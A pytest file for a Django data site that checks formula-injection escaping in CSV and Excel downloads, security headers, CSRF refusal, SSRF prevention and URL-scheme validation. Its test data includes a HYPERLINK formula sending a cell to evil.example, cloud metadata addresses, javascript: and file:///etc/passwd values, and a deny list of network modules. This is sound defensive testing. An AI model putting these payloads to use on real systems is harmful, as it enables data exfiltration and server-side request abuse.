"""What strangers try: forms of other sites, addresses for the server to open, formulas, frames."""

from __future__ import annotations

import ast
import csv
import io
import json
import socket
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from test_site_pages import ROWS as PUBLIC
from test_site_review import refused
from test_site_rights import ROWS

import cadre_site
import small_people as people
from cadre.vocabulary.languages import LANGUAGES
from small_sites import sign, site_release

pytestmark = pytest.mark.xdist_group("site")
LIVE = '=HYPERLINK("https://evil.example?x="&A1)'
INSIDE = ("http://127.0.0.1:9/latest/meta-data", "http://169.254.169.254/", "https://evil.example/x.png")
# What could open an address of somebody's choice. Letters go out by Django's own mail.
FETCHING = {
    "urllib.request", "http.client", "requests", "httpx", "aiohttp", "urllib3", "ftplib", "socket", "smtplib",
    "cadre.workspace.fetch",
}  # fmt: skip


@pytest.fixture(scope="module")
def client(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Anonymous, at a site whose one area is called like a formula."""
    from django.test import Client

    from cadre_site.audit.actors import Operator
    from cadre_site.ledger import actions
    from cadre_site.ledger.shelving import put
    from cadre_site.public.caching import pages

    pages.clear()
    place = tmp_path_factory.mktemp("release")
    checked = put(_with_a_formula(site_release(place)), formats=("html",))
    actions.receive(checked=checked, corrects=None, note=None, by=Operator("tests"))
    actions.publish(release=checked.id, by=Operator("tests"))
    found = Client(SERVER_NAME="localhost")
    found.release = checked.id
    return found


def _with_a_formula(folder: Path) -> Path:
    definitions = json.loads((folder / "definitions.json").read_text("utf-8"))
    for area in definitions["areas"].values():
        area["name"] = {"en": LIVE, "ru": LIVE}
    (folder / "definitions.json").write_text(json.dumps(definitions, ensure_ascii=False), "utf-8")
    (folder / "release.json").unlink()
    return sign(folder)


def body(answer: Any) -> bytes:
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    answer.close()
    return bytes(content)


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("file", ["country/XSC/indicator/1-02/data.csv", "explore/data.csv?indicator=1-02"])
def test_no_download_runs_a_formula(client: Any, language: str, file: str) -> None:
    answer = client.get(f"/{language}/{file}")
    assert answer.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(body(answer).decode("utf-8-sig"))) for cell in row]
    assert any(cell == "'" + LIVE for cell in cells)
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "@"))]


def test_no_sheet_runs_a_formula(client: Any) -> None:
    book = openpyxl.load_workbook(io.BytesIO(body(client.get("/en/explore/data.xlsx?indicator=1-02"))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    assert any(cell.value == LIVE for cell in cells)
    assert {cell.data_type for cell in cells} <= {"s", "n"}


def test_the_api_writes_no_formula() -> None:
    import pyarrow as pa

    from cadre_site.public.api.answering import as_csv

    table = pa.table({"AREA": [LIVE], "OBS_VALUE": [-1.5], "OBS_STATUS": ["A"]})
    assert list(csv.reader(io.StringIO(as_csv(table).decode())))[1] == ["'" + LIVE, "-1.5", "A"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_answer_carries_the_headers(client: Any, language: str) -> None:
    """Pages, files, errors, redirects and what allauth answers alike."""
    paths = [f"/{language}/{path}" for name, path in PUBLIC.items() if "{" not in path and ".." not in path]
    paths += [f"/{language}/nothing", "/sitemap.xml", "/robots.txt", "/", f"/{language}/account/sign-in"]
    paths += [f"/{language}/desk/people", f"/{language}/release/{client.release}/observations.parquet"]
    paths += ["/api/v1/releases", "/api/v1/nothing", "/api/v1/openapi.json"]
    for path in paths:
        answer = client.get(path)
        policy = answer.get("Content-Security-Policy", "")
        assert policy.startswith("default-src 'none'"), path
        assert "unsafe" not in policy, path
        assert answer.get("X-Content-Type-Options") == "nosniff", path
        assert answer.get("Referrer-Policy") == "same-origin", path
        assert answer.get("Cross-Origin-Opener-Policy") == "same-origin", path
        assert "microphone=()" in answer.get("Permissions-Policy", ""), path
        framed = "frame-ancestors *" in policy
        assert framed == ("/embed/" in path), path
        assert answer.get("X-Frame-Options") == (None if framed else "DENY"), path
        answer.close()


def test_a_page_that_has_not_changed_keeps_its_own_policy(client: Any) -> None:
    """The embedded view may stand in frames: what says that it is as it was must not take that away."""
    path = "/en/embed/?indicator=1-02"
    first = client.get(path)
    again = client.get(path, HTTP_IF_NONE_MATCH=first["ETag"])
    policy = first["Content-Security-Policy"]
    assert "frame-ancestors *" in policy
    assert (again.status_code, again.get("Content-Security-Policy")) == (304, policy)


def test_no_form_of_another_site_is_taken_anywhere(home: Path) -> None:
    from django.test import Client

    visitor = Client(SERVER_NAME="localhost", enforce_csrf_checks=True)
    visitor.force_login(people.administrator())
    facts = {"release": "R0", "person": "P0", "organisation": "0"}
    paths = [f"/en/{row.path.format(**facts)}" for row in ROWS.values() if row.post is not None]
    paths += [f"/en/account/{end}" for end in ("sign-in", "sign-out", "password", "email", "erase")]
    paths += ["/en/account/forgotten", "/en/account/join/nothing", "/en/account/security/app"]
    assert len(paths) > 25
    answers = {path: visitor.post(path, {"name": "Stolen"}).status_code for path in paths}
    assert {path: status for path, status in answers.items() if status != 403} == {}


@pytest.fixture
def calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every attempt of this process to look up a host or to open a connection."""
    tried: list[str] = []

    def refuse(name: str) -> Any:
        def refused(*given: Any, **named: Any) -> Any:
            tried.append(f"{name} {given}")
            raise OSError("no network in this test")

        return refused

    for name in ("getaddrinfo", "gethostbyname", "create_connection", "socket"):
        monkeypatch.setattr(socket, name, refuse(name))
    return tried


@pytest.mark.parametrize("address", INSIDE)
def test_addresses_that_people_give_are_never_opened(home: Path, calls: list[str], address: str) -> None:
    from django.test import Client

    from cadre_site.accounts.models import Organisation

    first, second = people.administrator(), people.administrator()
    signed_in = [Client(SERVER_NAME="localhost") for _ in range(2)]
    for one, user in zip(signed_in, (first, second), strict=True):
        one.force_login(user)
    given = {"name_en": f"Of {address}", "name_ru": f"От {address}", "kind": "ministry", "website": address}
    assert signed_in[0].post("/en/desk/organisations/propose", given).status_code == 302
    made = Organisation.objects.get(name_en=given["name_en"])
    for one in signed_in:
        evidence = {"evidence": f"See {address} and <a href='{address}'>there</a>."}
        assert one.post(f"/en/desk/organisations/{made.pk}", evidence).status_code == 302
    for path in (f"/en/desk/organisations/{made.pk}", "/ru/desk/organisations"):
        page = signed_in[0].get(path).content.decode()
        assert f'href="{address}' not in page  # words, not a link
        assert f"href='{address}" not in page
    assert address in signed_in[0].get(f"/en/desk/organisations/{made.pk}").content.decode()
    assert Organisation.objects.get(pk=made.pk).verified_at is not None
    assert calls == []


@pytest.mark.parametrize(
    "website", ["javascript:alert(1)", "ftp://example.org", "file:///etc/passwd", "data:text/html,x"]
)
def test_a_website_is_on_the_web(home: Path, website: str) -> None:
    from django.test import Client

    from cadre_site.accounts import actions

    first = people.administrator()
    signed_in = Client(SERVER_NAME="localhost")
    signed_in.force_login(first)
    given = {"name_en": "Off", "name_ru": "Вне", "kind": "ministry", "country": "", "website": website}
    answer = signed_in.post("/ru/desk/organisations/propose", given)
    assert (answer.status_code, "https://example.org" in answer.content.decode()) == (200, True)
    refused("site-website-unfit", actions.propose_organisation, by=first, **given)


def test_the_site_has_nothing_to_open_an_address_with() -> None:
    """But the terminal, which nothing imports: ``verify-bundle`` compares what a server gives."""
    found = []
    site = Path(cadre_site.__file__).parent
    for path in (one for one in site.rglob("*.py") if one != site / "commands" / "watching.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            found += [(path.name, name) for name in _imported(node) if name in FETCHING]
    assert found == []


def _imported(node: ast.AST) -> list[str]:
    if isinstance(node, ast.Import):
        return [one.name for one in node.names]
    if isinstance(node, ast.ImportFrom):
        return [str(node.module), *(f"{node.module}.{one.name}" for one in node.names)]
    return []
